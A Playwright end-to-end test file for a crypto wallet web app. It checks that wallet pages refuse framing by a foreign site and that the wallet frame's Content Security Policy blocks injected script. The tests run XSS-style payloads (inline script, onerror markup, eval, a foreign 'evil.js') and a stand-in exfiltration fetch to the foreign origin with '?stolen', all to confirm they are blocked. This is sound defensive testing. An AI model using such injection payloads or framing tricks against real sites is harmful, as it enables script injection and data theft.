import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { DEVELOPMENT_PROJECT_ID } from '@latchkit/gateway';
import type { Browser, Frame } from 'playwright-core';
import { describe, expect } from 'vitest';
import { it as journey } from '../support/journey.js';

/** A page of another site that embeds the URL in its query. */
const it = journey.extend('stranger', { scope: 'file' }, async ({ stack: _ }, { onCleanup }) => {
  const server = createServer((request, response) => {
    const src = new URL(request.url ?? '/', 'http://x').searchParams.get('src') ?? 'about:blank';
    response.setHeader('content-type', 'text/html');
    response.end(`<!doctype html><title>Stranger</title><iframe src="${encodeURI(src)}"></iframe>`);
  }).listen(0, 'localhost');
  await new Promise(resolve => server.once('listening', resolve));
  onCleanup(() => {
    server.closeAllConnections();
    server.close();
  });
  return `http://stranger.localhost:${(server.address() as AddressInfo).port}`;
});

const PAGES = ['/approve?lang=en#t=abc', '/freeze?lang=en#t=abc', '/revert?lang=en#t=abc'];
/** The initial project of the stack. */
const PROJECT = DEVELOPMENT_PROJECT_ID;
const QUERY = 'chainId=eip155:1&version=1.0.0&enableLogger=false';

/** Opens a clean page, and closes it after use. */
async function withPage<T>(browser: Browser, run: (open: (url: string) => Promise<Frame[]>) => Promise<T>) {
  const context = await browser.newContext();
  try {
    const page = await context.newPage();
    return await run(async url => {
      await page.goto(url);
      return page.frames();
    });
  } finally {
    await context.close();
  }
}

describe('pages of the wallet', () => {
  it('are shown in no frame: the browser blocks them, and their script does nothing but as a page of its own [SEC-17]', async ({
    browser,
    stack,
    stranger,
  }) => {
    for (const path of PAGES) {
      const url = stack.vault + path;
      await withPage(browser, async open => {
        const [, held] = await open(`${stranger}/?src=${encodeURIComponent(url)}`);
        await expect.poll(() => held?.url(), { message: path }).toBe('chrome-error://chromewebdata/');
        // Without the header only the script protects: it sends no request and shows no decision.
        const page = held?.page();
        const asked: string[] = [];
        await page?.route(`${stack.vault}/**`, async route => {
          const { pathname } = new URL(route.request().url());
          asked.push(pathname);
          const answer = await route.fetch();
          const headers = Object.fromEntries(
            Object.entries(answer.headers()).filter(
              ([name]) => !/^(content-security-policy|x-frame-options|cross-origin)/.test(name),
            ),
          );
          await route.fulfill({ response: answer, headers });
        });
        const [, framed] = await open(`${stranger}/?src=${encodeURIComponent(`${url}&again`)}`);
        await expect.poll(() => framed?.url(), { message: path }).toContain(new URL(url).pathname);
        await framed?.waitForLoadState('networkidle');
        expect(await framed?.locator('[data-part="loading"]').isVisible(), path).toBe(true);
        expect(await framed?.locator('[data-part="question"]').isVisible(), path).toBe(false);
        expect(
          asked.filter(one => one.startsWith('/v1/')),
          path,
        ).toEqual([]);
        // As a top-level page it sends its request at once.
        await page?.goto(url);
        await page?.locator('[data-part="invalid"]').waitFor();
        expect(
          asked.filter(one => one.startsWith('/v1/')),
          path,
        ).toHaveLength(1);
        await page?.unrouteAll({ behavior: 'wait' });
      });
    }
  });

  it("are not the wallet frame: that is for iframes only, and the portal and the wallet's windows for none [SEC-17]", async ({
    browser,
    stack,
    stranger,
  }) => {
    for (const path of ['/me', '/window', '/window/oauth', '/window/done', '/window/pass']) {
      await withPage(browser, async open => {
        const [, held] = await open(`${stranger}/?src=${encodeURIComponent(stack.frame + path)}`);
        await expect.poll(() => held?.url(), { message: path }).toBe('chrome-error://chromewebdata/');
      });
    }
    const frame = `${stack.frame}/frame?projectId=${PROJECT}&${QUERY}`;
    const answer = await fetch(frame, { headers: { 'Sec-Fetch-Dest': 'document' } });
    expect(answer.ok).toBe(false);
  });
});

describe('the wallet frame', () => {
  it('runs no inline script and no eval, asks and shows nothing of others, and all of it is reported [SEC-18]', async ({
    browser,
    stack,
    stranger,
  }) => {
    const url = `${stack.frame}/frame?projectId=${PROJECT}&${QUERY}`;
    await withPage(browser, async open => {
      const reports: string[] = [];
      const [top] = await open(`${stranger}/`);
      const page = top?.page();
      page?.on('request', request => {
        if (request.url().endsWith('/csp-reports')) reports.push(request.postData() ?? '');
      });
      const [, held] = await open(`${stranger}/?src=${encodeURIComponent(url)}`);
      if (held === undefined) throw new Error('The wallet page did not load');
      await expect.poll(() => held.url()).toContain('/frame');
      await held.waitForLoadState();
      const got = await held.evaluate(async foreign => {
        const state = window as Window & { ran?: boolean; violations?: string[] };
        const violations: string[] = [];
        state.violations = violations;
        addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          violations.push(effectiveDirective);
        });
        const script = document.createElement('script');
        const attempts: [string, () => unknown][] = [
          [
            'inline script',
            () => {
              script.append('window.ran = true');
              document.head.append(script);
            },
          ],
          [
            'event handler',
            () => {
              const image = document.createElement('p');
              image.setAttribute('onclick', 'window.ran = true');
              document.body.append(image);
              image.click();
            },
          ],
          ['eval', () => Reflect.get(window, 'eval')('window.ran = true')],
          ['Function', () => new Function('window.ran = true')()],
          [
            'foreign script',
            () => {
              const other = document.createElement('script');
              // Trusted Types refuse the string before the policy checks the source.
              other.setAttribute('src', `${foreign}/evil.js`);
              document.head.append(other);
            },
          ],
          [
            'markup',
            () => {
              document.body.innerHTML = '<img src=x onerror="window.ran = true">';
            },
          ],
          [
            'policy',
            () =>
              (
                window as { trustedTypes?: { createPolicy(name: string, rules: object): unknown } }
              ).trustedTypes?.createPolicy('evil', {}),
          ],
        ];
        // In a task of the page, because Chromium allows eval in an evaluation by the debugger.
        await new Promise(resolve => setTimeout(resolve));
        for (const [, attempt] of attempts) {
          try {
            attempt();
          } catch {
            // Refused synchronously.
          }
        }
        const fetched = await fetch(`${foreign}/?stolen`).then(
          () => 'asked',
          () => 'blocked',
        );
        const image = new Image();
        const shown = await new Promise(resolve => {
          image.onload = () => resolve('shown');
          image.onerror = () => resolve('blocked');
          image.src = `${foreign}/image.png`;
        });
        return { ran: state.ran === true, fetched, shown };
      }, stranger);
      expect(got).toEqual({ ran: false, fetched: 'blocked', shown: 'blocked' });
      const violations = () => held.evaluate(() => (window as Window & { violations?: string[] }).violations);
      await expect
        .poll(violations)
        .toEqual(
          expect.arrayContaining(['connect-src', 'img-src', 'require-trusted-types-for', 'trusted-types']),
        );
      await expect
        .poll(() => reports.map(text => String(JSON.parse(text)['csp-report']['effective-directive'])))
        .toEqual(expect.arrayContaining(['connect-src', 'img-src']));
    });
  });
});
